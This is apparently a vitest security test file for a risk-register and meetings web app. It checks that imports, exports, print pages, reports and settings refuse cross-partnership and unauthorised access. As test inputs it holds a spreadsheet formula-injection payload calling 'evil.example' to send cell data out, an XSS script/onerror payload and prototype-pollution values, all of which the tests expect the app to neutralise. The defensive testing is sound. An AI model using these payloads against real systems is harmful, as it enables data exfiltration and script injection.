import type ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { loadActor } from '../../server/core/actors.js';
import type { MitigationRow, RiskRow } from '../../shared/schemas/risk.js';
import { countRows } from '../helpers/attack.js';
import { uploadEvidence } from '../helpers/evidence.js';
import { download, readCsv, readWorkbook } from '../helpers/exports.js';
import { ApiClient, DEMO } from '../helpers/http.js';
import { commitImport, previewImport } from '../helpers/imports.js';
import { meetingInDays } from '../helpers/meeting-time.js';
import { BOARD, P, PERSON, ok, refusal, run } from '../helpers/plans.js';
import { addSecondPartnership, leakedNames, type SecondPartnership } from '../helpers/second-partnership.js';
import { addSecondPlan } from '../helpers/second-plan.js';
import { useTestServer, type TestServer } from '../helpers/server.js';

/*
 * Issue 14's channels attacked: imports (and the server's edits of co-edited docs they make), exports,
 * meeting papers, the pack and minutes print pages, the highlight report, and the administrators'
 * settings, as a hostile member, an observer, another partnership's person and an ended session.
 */

const risksOf = async (client: ApiClient) => (await client.get<RiskRow[]>(`${P}/risks`)).body;

/** An open risk of the demo register that `personId` may read but not edit. */
async function notEditableBy(server: TestServer, personId: number, rows: RiskRow[]): Promise<RiskRow> {
  const actor = (await loadActor(server.ctx, personId))!;
  let row: RiskRow | undefined;
  for (const r of rows) if (!row && r.status === 'open' && (await server.services.risks.commitPath.access(actor, r.id)) === 'read') row = r;
  if (!row) throw new Error(`no risk person ${personId} may only read`);
  return row;
}

/** One second partnership per server (its administrator's e-mail is the same each time: made twice, she would sign in to the first). */
const seconds = new WeakMap<TestServer, Promise<SecondPartnership>>();
function secondOf(server: TestServer): Promise<SecondPartnership> {
  if (!seconds.has(server)) seconds.set(server, addSecondPartnership(server));
  return seconds.get(server)!;
}
const plansOf = new WeakMap<TestServer, Promise<number>>();
function secondPlanOf(server: TestServer): Promise<number> {
  if (!plansOf.has(server)) plansOf.set(server, secondOf(server).then(async (far) => (await addSecondPlan(server, far)).planId));
  return plansOf.get(server)!;
}

describe('issue 14 attacks', () => {
  const server = useTestServer();

  it('imports: an observer and a member who may not edit a risk get row errors and commit nothing; a mitigation ID of another risk is none of this one', async () => {
    const chair = await new ApiClient(server().url).login(DEMO.chair);
    const observer = await new ApiClient(server().url).login(DEMO.observer);
    const police = await new ApiClient(server().url).login(DEMO.police);
    const rows = await risksOf(chair);
    const before = await countRows(server(), 'risks');

    // Observers import nothing at all.
    expect((await previewImport(observer, 'risks', `Reference,Title\n${rows[0]!.reference},Hijacked title\n`, 'r.csv')).status).toBe(403);
    for (const [client, personId] of [[police, PERSON.police]] as const) {
      const target = await notEditableBy(server(), personId, rows);
      const seen = await previewImport(client, 'risks', `Reference,Title,Risk description\n${target.reference},Hijacked title,Hijacked\n`, 'r.csv');
      expect(seen.status).toBe(201);
      expect(seen.body.rows[0]!.errors).toContainEqual({ column: 'Reference', message: `You may not edit ${target.reference}` });
      expect((await commitImport(client, seen.body.id)).status).toBe(400);
    }
    expect((await risksOf(chair)).filter((r) => r.title === 'Hijacked title')).toEqual([]);
    expect(await countRows(server(), 'risks')).toBe(before);

    // A mitigation's key taken from another risk, written under a risk the chair may edit.
    const mitigations = (await chair.get<MitigationRow[]>(`${P}/mitigations`)).body;
    const donor = mitigations[0]!;
    const host = rows.find((r) => r.id !== donor.riskId && r.status === 'open')!;
    const crossed = await previewImport(chair, 'mitigations', `Risk reference,Mitigation ID,Mitigation\n${host.reference},${donor.key},Moved here\n`, 'm.csv');
    expect(crossed.body.rows[0]!.errors).toEqual([{ column: 'Mitigation ID', message: `${host.reference} has no mitigation ${donor.key}: leave the Mitigation ID empty to add one` }]);
  });

  it('imports: a plan of another partnership, or none, is not found; rows naming their people are no one here', async () => {
    const far = await secondOf(server());
    const farPlan = { planId: await secondPlanOf(server()) };
    const chair = await new ApiClient(server().url).login(DEMO.chair);
    const farshire = await new ApiClient(server().url).login(far.email, far.password);
    const csv = 'Objective,Action,Lead Officers\n1,Injected action,Ysolde Quarrington\n';
    expect((await previewImport(chair, 'plan-actions', csv, 'p.csv', { planId: String(farPlan.planId) })).status).toBe(404);
    expect((await previewImport(chair, 'plan-actions', csv, 'p.csv', { planId: '999999' })).status).toBe(404);
    expect((await previewImport(chair, 'plan-actions', csv, 'p.csv', { planId: '__proto__' })).status).toBe(400);
    // Farshire's person, at their own address, naming our plan 1.
    const form = new FormData();
    form.set('kind', 'plan-actions');
    form.set('planId', '1');
    form.set('file', new Blob([csv]), 'p.csv');
    const theirs = await fetch(`${farshire.baseUrl}/api/partnerships/${far.partnershipId}/imports`, { method: 'POST', headers: { cookie: farshire.sessionCookie!, origin: farshire.baseUrl }, body: form });
    expect(theirs.status).toBe(404);
    // Our plan, their person as lead officer: an error on the row, and their name only echoes what the file said.
    const named = await previewImport(chair, 'plan-actions', csv, 'p.csv', { planId: '1' });
    expect(named.body.rows[0]!.errors.some((e) => e.column === 'Lead Officers')).toBe(true);
    expect(leakedNames(far, { ...named.body, rows: named.body.rows.map((r) => ({ ...r, errors: r.errors.filter((e) => !e.message.includes('Ysolde Quarrington')) })) })).toEqual([]);
  });

  it('imports: a preview is its person’s alone; two commits of one preview at once store it once', async () => {
    const chair = await new ApiClient(server().url).login(DEMO.chair);
    const police = await new ApiClient(server().url).login(DEMO.police);
    const target = (await risksOf(chair)).find((r) => r.status === 'open' && r.boardName === 'Improvement Board')!;
    const seen = await previewImport(chair, 'risks', `Reference,Title\n${target.reference},Raced title\n`, 'r.csv');
    expect(seen.body.rows[0]!.action).toBe('update');
    expect((await police.get(`${P}/imports/${seen.body.id}`)).status).toBe(404);
    expect((await commitImport(police, seen.body.id)).status).toBe(404);
    const audits = () => countRows(server(), "audit_log where action = 'import.committed'");
    const before = await audits();
    const answers = await Promise.all([commitImport(chair, seen.body.id), commitImport(chair, seen.body.id), commitImport(chair, seen.body.id)]);
    expect(answers.map((a) => a.status).sort()).toEqual([200, 409, 409]);
    expect(await audits()).toBe(before + 1);
    expect((await risksOf(chair)).find((r) => r.id === target.id)!.title).toBe('Raced title');
  });

  it('exports: text a spreadsheet would run is guarded in CSV and a plain string in XLSX; another partnership’s plan is not found', async () => {
    const chair = await new ApiClient(server().url).login(DEMO.chair);
    const sample = (await risksOf(chair)).find((r) => r.ownerId !== null && r.leadAgencyId !== null && r.boardId === BOARD.ib)!;
    const title = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
    await ok(chair, 'risk:create', { boardId: BOARD.ib, title, leadAgencyId: sample.leadAgencyId!, ownerId: sample.ownerId! });
    const csv = readCsv((await download(chair, `${P}/exports/risks.csv`)).body);
    const titleAt = csv[0]!.indexOf('Title');
    expect(csv.some((r) => r[titleAt] === `'${title}`)).toBe(true);
    expect(csv.some((r) => r.some((c) => /^[=+\-@]/.test(c)))).toBe(false);
    const book = await readWorkbook((await download(chair, `${P}/exports/risks.xlsx`)).body);
    const cells: ExcelJS.CellValue[] = [];
    book.worksheets[0]!.eachRow((row) => row.eachCell((c) => void cells.push(c.value)));
    expect(cells).toContain(title);
    expect(cells.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);

    const far = await secondOf(server());
    const farPlan = { planId: await secondPlanOf(server()) };
    expect((await download(chair, `${P}/exports/plan.csv?planId=${farPlan.planId}`)).status).toBe(404);
    expect((await download(chair, `${P}/exports/risks.csv?boardId=${far.boardId}`)).body.toString()).not.toContain('Farshire');
    expect((await download(new ApiClient(server().url), `${P}/exports/risks.csv`)).status).toBe(401);
  });
});

describe('issue 14 attacks: papers, print pages, highlight report, settings', () => {
  const server = useTestServer();

  it('papers: another meeting’s paper under this meeting, a removed evidence file and one of another partnership are refused', async () => {
    const chair = await new ApiClient(server().url).login(DEMO.chair);
    const one = await ok(chair, 'meeting:create', { boardId: BOARD.ib, title: 'Meeting one', startsAt: meetingInDays(20) });
    const two = await ok(chair, 'meeting:create', { boardId: BOARD.ib, title: 'Meeting two', startsAt: meetingInDays(21) });
    const itemOne = (await ok(chair, 'agenda:add', { meetingId: one.id, title: 'Item one' })).agenda.at(-1)!;
    const itemTwo = (await ok(chair, 'agenda:add', { meetingId: two.id, title: 'Item two' })).agenda.at(-1)!;
    const paperTwo = (await ok(chair, 'paper:add', { meetingId: two.id, itemId: itemTwo.id, title: 'Paper of two', authorPersonId: PERSON.health })).papers.at(-1)!;
    const file = (await uploadEvidence(chair, 1, { name: 'p.csv', bytes: 'a,b\n1,2\n' })).body as { id: number };
    expect(refusal(await run(chair, 'paper:attach', { meetingId: one.id, paperId: paperTwo.id, evidenceId: file.id })).status).toBe(404);
    expect(refusal(await run(chair, 'paper:remove', { meetingId: one.id, paperId: paperTwo.id })).status).toBe(404);
    expect(refusal(await run(chair, 'paper:add', { meetingId: one.id, itemId: itemTwo.id, title: 'Crossed' }))).toMatchObject({ status: 400, paths: ['itemId'] });
    await ok(chair, 'evidence:remove', { evidenceId: file.id });
    expect(refusal(await run(chair, 'paper:add', { meetingId: one.id, itemId: itemOne.id, title: 'Removed file', evidenceId: file.id }))).toMatchObject({ status: 400, paths: ['evidenceId'] });
    expect(refusal(await run(chair, 'paper:attach', { meetingId: two.id, paperId: paperTwo.id, evidenceId: file.id }))).toMatchObject({ status: 400, paths: ['evidenceId'] });
    const far = await secondOf(server());
    expect(refusal(await run(chair, 'paper:add', { meetingId: far.meetingId, itemId: far.agendaItemId, title: 'Into Farshire' })).status).toBe(404);
  });

  it('print pages: what people typed is escaped everywhere; another partnership’s meeting and a board the person does not sit on are not found', async () => {
    const chair = await new ApiClient(server().url).login(DEMO.chair);
    const evil = '<script>alert(1)</script><img src=x onerror=alert(2)>"\'&';
    const m = await ok(chair, 'meeting:create', { boardId: BOARD.ib, title: `Meeting ${evil}`, startsAt: meetingInDays(22) });
    const item = (await ok(chair, 'agenda:add', { meetingId: m.id, title: `Item ${evil}` })).agenda.at(-1)!;
    await ok(chair, 'paper:add', { meetingId: m.id, itemId: item.id, title: `Paper ${evil}`, authorPersonId: PERSON.health });
    for (const page of ['pack.html', 'minutes.html']) {
      const res = await download(chair, `${P}/meetings/${m.id}/${page}`);
      expect(res.status).toBe(200);
      const text = res.body.toString();
      expect(text).not.toContain('<script>alert');
      expect(text).not.toContain('<img src=x');
      expect(text).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
      expect(res.headers.get('content-security-policy')).toContain("default-src 'none'");
    }

    const far = await secondOf(server());
    const farshire = await new ApiClient(server().url).login(far.email, far.password);
    const observer = await new ApiClient(server().url).login(DEMO.observer);
    const council = await new ApiClient(server().url).login(DEMO.council);
    const og = await ok(council, 'meeting:create', { boardId: BOARD.og, title: 'Operational Group meeting', startsAt: meetingInDays(23) });
    for (const page of ['pack.html', 'minutes.html', 'pack.pdf', 'minutes.pdf']) {
      expect((await download(chair, `${P}/meetings/${far.meetingId}/${page}`)).status).toBe(404);
      expect((await download(farshire, `/api/partnerships/${far.partnershipId}/meetings/${m.id}/${page}`)).status).toBe(404);
      expect((await download(observer, `${P}/meetings/${og.id}/${page}`)).status).toBe(404);
      expect((await download(new ApiClient(server().url), `${P}/meetings/${m.id}/${page}`)).status).toBe(401);
    }
  });

  it('highlight report: another partnership’s board and a board neither sat on nor reported to are not found', async () => {
    const far = await secondOf(server());
    const chair = await new ApiClient(server().url).login(DEMO.chair);
    const observer = await new ApiClient(server().url).login(DEMO.observer);
    const farshire = await new ApiClient(server().url).login(far.email, far.password);
    expect((await chair.get(`${P}/boards/${far.boardId}/highlight-report`)).status).toBe(404);
    expect((await farshire.get(`/api/partnerships/${far.partnershipId}/boards/${BOARD.og}/highlight-report`)).status).toBe(404);
    // The observer sits on the Improvement Board only: the Operational Group reports to it, the QA committee does not.
    expect((await observer.get(`${P}/boards/${BOARD.og}/highlight-report`)).status).toBe(200);
    expect((await observer.get(`${P}/boards/4/highlight-report`)).status).toBe(404);
    expect((await chair.get(`${P}/boards/${BOARD.ib}/highlight-report?month=__proto__`)).status).toBe(400);
  });

  it('settings: the protective marking and a board’s reporting cycle are the administrators’, in their own partnership', async () => {
    const far = await secondOf(server());
    const chair = await new ApiClient(server().url).login(DEMO.chair);
    const admin = await new ApiClient(server().url).login(DEMO.admin);
    const farshire = await new ApiClient(server().url).login(far.email, far.password);
    expect(refusal(await run(chair, 'partnership:settings', { protectiveMarking: 'OFFICIAL' })).status).toBe(403);
    expect(refusal(await run(chair, 'board:update', { boardId: BOARD.ib, reportingCycle: 'quarterly' })).status).toBe(403);
    expect(refusal(await run(admin, 'board:update', { boardId: far.boardId, reportingCycle: 'quarterly' })).status).toBe(404);
    expect(refusal(await run(admin, 'partnership:settings', { protectiveMarking: '__proto__' as never })).status).toBe(400);
    expect(refusal(await run(admin, 'board:update', { boardId: BOARD.og, reportingCycle: 'constructor' as never })).status).toBe(400);
    // Farshire's administrator changes Farshire's marking, never ours (commands act on the person's own partnership).
    const marking = async (id: number) => (await server().ctx.database.sql.get<{ m: string }>('select protective_marking as m from partnerships where id = ?', [id]))!.m;
    const ours = await marking(1);
    const next = ours === 'OFFICIAL' ? 'OFFICIAL-SENSITIVE' : 'OFFICIAL';
    await ok(farshire, 'partnership:settings', { protectiveMarking: next });
    expect({ far: await marking(far.partnershipId), ours: await marking(1) }).toEqual({ far: next, ours });
  });
});

describe('issue 14 attacks: all or nothing when a row would take the person’s own right away', () => {
  const server = useTestServer();

  it('a new risk owned by another agency, with its description: refused on its row in the preview, never half made at the commit', async () => {
    const police = await new ApiClient(server().url).login(DEMO.police);
    const before = await countRows(server(), 'risks');
    const csv = 'Title,Risk description,Board,Lead agency,Owner\nHalf-made risk,Its description,Operational Group,Northbrook Integrated Care Board,Dr Aisha Rahman\n';
    const seen = await previewImport(police, 'risks', csv, 'r.csv');
    expect(seen.status).toBe(201);
    // Police may add a risk to the Operational Group, but not type into one owned by another agency.
    expect(seen.body.rows[0]!.errors.map((e) => e.column)).toEqual(['Risk description']);
    expect((await commitImport(police, seen.body.id)).status).toBe(400);
    expect((await risksOf(police)).some((r) => r.title === 'Half-made risk')).toBe(false);
    expect(await countRows(server(), 'risks')).toBe(before);
    // Without the description the same row adds the risk whole.
    const bare = await previewImport(police, 'risks', 'Title,Board,Lead agency,Owner\nHalf-made risk,Operational Group,Northbrook Integrated Care Board,Dr Aisha Rahman\n', 'r.csv');
    expect(bare.body.rows[0]!.errors).toEqual([]);
    expect((await commitImport(police, bare.body.id)).status).toBe(200);
    expect(await countRows(server(), 'risks')).toBe(before + 1);
  });

  it('an owner handed to another agency with a new description on the same row: both are written, or neither', async () => {
    const police = await new ApiClient(server().url).login(DEMO.police);
    const actor = (await loadActor(server().ctx, PERSON.police))!;
    // A risk police edit only as its owner and lead agency (not as chair of its board).
    const target = (await risksOf(police)).find((r) => r.status === 'open' && r.ownerId === PERSON.police && actor.boardRoles.get(r.boardId) !== 'chair' && r.escalatedToBoardId === null)!;
    expect(target).toBeDefined();
    const csv = `Reference,Risk description,Lead agency,Owner\n${target.reference},Handed over with this description,Northbrook Integrated Care Board,Dr Aisha Rahman\n`;
    const seen = await previewImport(police, 'risks', csv, 'r.csv');
    expect(seen.body.rows[0]!.errors).toEqual([]);
    expect(seen.body.rows[0]!.action).toBe('update');
    const committed = await commitImport(police, seen.body.id);
    const after = (await police.get<{ event: string; ownerId: number | null }>(`${P}/risks/${target.id}`)).body;
    expect({ status: committed.status, event: after.event, ownerId: after.ownerId }).toEqual({ status: 200, event: 'Handed over with this description', ownerId: PERSON.health });
  });

  it('a seat removed between the preview and the commit: the commit is decided on the rights of now and writes nothing', async () => {
    const chair = await new ApiClient(server().url).login(DEMO.chair);
    const admin = await new ApiClient(server().url).login(DEMO.admin);
    const actor = (await loadActor(server().ctx, PERSON.chair))!;
    // Improvement Board risks the chair edits now; once her seat there goes, some of them she only reads.
    const targets: RiskRow[] = [];
    for (const r of await risksOf(chair)) if (r.status === 'open' && r.boardId === BOARD.ib && (await server().services.risks.commitPath.access(actor, r.id)) === 'edit') targets.push(r);
    const csv = `Reference,Title\n${targets.map((r) => `${r.reference},Written after the seat went ${r.id}`).join('\n')}\n`;
    const seen = await previewImport(chair, 'risks', csv, 'r.csv');
    expect(seen.body.counts).toMatchObject({ update: targets.length, withErrors: 0 });
    const seat = (await server().ctx.database.sql.get<{ id: number }>('select id from memberships where board_id = ? and person_id = ?', [BOARD.ib, PERSON.chair]))!;
    await ok(admin, 'membership:remove', { boardId: BOARD.ib, membershipId: seat.id });
    const fresh = (await loadActor(server().ctx, PERSON.chair))!;
    const readOnly: RiskRow[] = [];
    for (const r of targets) if ((await server().services.risks.commitPath.access(fresh, r.id)) === 'read') readOnly.push(r);
    expect(readOnly.length).toBeGreaterThan(0);
    const committed = await commitImport(chair, seen.body.id);
    expect(committed.status).toBe(409);
    expect((await risksOf(admin)).filter((r) => r.title.startsWith('Written after the seat went'))).toEqual([]);
  });
});
